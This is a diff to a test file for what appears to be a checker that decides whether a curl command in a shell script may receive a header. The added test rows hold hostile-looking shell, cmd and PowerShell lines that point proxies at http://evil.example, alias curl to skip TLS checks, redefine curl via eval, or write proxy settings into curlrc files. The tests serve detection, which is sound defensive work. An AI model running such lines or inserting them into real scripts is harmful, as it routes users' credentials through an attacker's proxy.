@@ -652,6 +652,7 @@ describe('who may get the header', () => {
           '"x" | Set-Content -Path env:all_proxy',
           'Copy-Item env:a env:https_proxy',
           'Rename-Item env:a https_proxy',
+          'Copy-Item a $HOME/.curlrc',
           'Set-Variable PSDefaultParameterValues @{"*:Proxy"="e"}',
         ],
         ...[
@@ -972,6 +973,13 @@ describe('who may get the header', () => {
         'CURL_HOME=. curl',
         'alias curl="curl -k"\ncurl',
         'curl() { command curl -k "$@"; }\ncurl',
+        'alias -- curl="curl -k"\ncurl',
+        "alias c=curl 'curl'='curl -k'\ncurl",
+        'eval "curl() { :; }"\ncurl',
+        'for https_proxy in http://evil.example; do curl',
+        'mapfile -t https_proxy < proxies\ncurl',
+        'declare -n proxy=https_proxy\ncurl',
+        'echo "proxy = http://evil.example" >> ~/.curlrc\ncurl',
       ].map((command): Row => [
         'the environment or another curl',
         posixFormat,
@@ -1043,24 +1051,31 @@ describe('who may get the header', () => {
         /unknown 0: its script has Invoke-Command/,
         /unknown 0: its script has Invoke-Command/,
       ],
-      ...['# export http_proxy=x', 'echo "$http_proxy"', 'unset https_proxy', 'HOMEPAGE=x'].map(
-        (line): Row => [
-          'a harmless line',
-          posixFormat,
-          `${line}\ncurl ${url}\n`,
-          /^changed 1$/,
-          /^changed 1$/,
-        ],
-      ),
-      ...['set http_proxy=http://evil.example', 'set "HTTPS_PROXY=http://e"', 'doskey curl=curl -k $*'].map(
-        (line): Row => [
-          'the environment',
-          cmdFormat,
-          `${line}\ncurl ${url}\n`,
-          /^unknown 1: its script has/,
-          /^unknown/,
-        ],
-      ),
+      ...[
+        '# export http_proxy=x',
+        'echo "$http_proxy"',
+        'unset https_proxy',
+        'HOMEPAGE=x',
+        'cp a.curlrc b',
+      ].map((line): Row => [
+        'a harmless line',
+        posixFormat,
+        `${line}\ncurl ${url}\n`,
+        /^changed 1$/,
+        /^changed 1$/,
+      ]),
+      ...[
+        'set http_proxy=http://evil.example',
+        'set "HTTPS_PROXY=http://e"',
+        'doskey curl=curl -k $*',
+        'copy a "%APPDATA%\\_curlrc"',
+      ].map((line): Row => [
+        'the environment',
+        cmdFormat,
+        `${line}\ncurl ${url}\n`,
+        /^unknown 1: its script has/,
+        /^unknown/,
+      ]),
       ...[
         '$env:http_proxy = "http://evil.example"',
         '$PSDefaultParameterValues["*:Proxy"] = "http://e"',
